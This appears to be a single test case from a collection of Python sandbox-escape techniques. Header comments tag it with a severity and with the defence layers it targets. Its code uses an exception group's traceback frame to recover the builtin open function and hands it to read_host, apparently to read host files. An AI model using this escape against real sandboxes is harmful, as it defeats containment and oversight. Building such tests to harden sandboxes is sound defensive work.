# technique: the errors inside an exception group hold tracebacks
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def fails():
    raise ValueError

def trick():
    try:
        try:
            fails()
        except ValueError as e:
            raise ExceptionGroup("x", [e])
    except* ValueError as group:
        return_ = group.exceptions[0].__traceback__.tb_frame.f_builtins["open"]
    return return_

read_host(trick)
